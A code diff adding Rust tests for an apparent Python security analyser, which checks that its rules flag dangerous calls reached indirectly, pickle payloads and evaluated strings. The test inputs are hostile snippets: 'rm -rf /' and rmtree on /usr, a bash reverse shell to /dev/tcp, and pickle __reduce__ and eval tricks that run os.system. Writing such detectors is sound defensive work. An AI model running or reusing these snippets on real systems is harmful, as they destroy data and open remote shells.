@@ -196,3 +196,56 @@ fn parameter_defaults_are_bound() {
         "def show(p='/etc/login.defs'):\n    print(open(p).read())\nshow()\n",
     );
 }
+
+#[test]
+fn calls_reached_indirectly_are_calls() {
+    // Thread targets, executor submissions, map, methodcaller, libc's system and
+    // `__reduce__` all end in the call they name.
+    fires(
+        "CRD104",
+        "import threading, shutil\nthreading.Thread(target=shutil.rmtree, args=('/usr',)).start()\n",
+    );
+    fires(
+        "CRD104",
+        "import os\nfrom concurrent.futures import ProcessPoolExecutor as P\nP().submit(os.system, 'rm -rf /')\n",
+    );
+    fires(
+        "CRD101",
+        "import os, operator\noperator.methodcaller('system', 'bash -i >& /dev/tcp/h/1 0>&1')(os)\n",
+    );
+    fires(
+        "CRD104",
+        "import ctypes\nctypes.CDLL('libc.so.6').system(b'rm -rf /')\n",
+    );
+    fires(
+        "CRD103",
+        "import os, pickle\nclass A:\n    def __reduce__(self):\n        return (os.system, ('id',))\npickle.loads(pickle.dumps(A()))\n",
+    );
+    silent(
+        "CRD103",
+        "import pickle\nclass A:\n    def __reduce__(self):\n        return (self.__class__, (1,))\n",
+    );
+}
+
+#[test]
+fn constant_pickles_are_disassembled() {
+    // A protocol 0 pickle importing os.system is decode-then-execute; a pickled string is not.
+    fires(
+        "CRD103",
+        "import pickle\npickle.loads(b\"cos\\nsystem\\n(S'id'\\ntR.\")\n",
+    );
+    silent(
+        "CRD103",
+        "import pickle\npickle.loads(b'\\x80\\x04\\x95\\x08\\x00\\x00\\x00\\x00\\x00\\x00\\x00\\x8c\\x04text\\x94.')\n",
+    );
+}
+
+#[test]
+fn calls_hidden_in_evaluated_strings_are_high() {
+    // A constant exec/eval string that starts a program is at least HIGH; arithmetic is not.
+    level(
+        Level::High,
+        "def run(e):\n    return eval(e)\nrun(\"__import__('os').system('ls')\")\n",
+    );
+    level(Level::Low, "print(eval('2 + 2'))\n");
+}
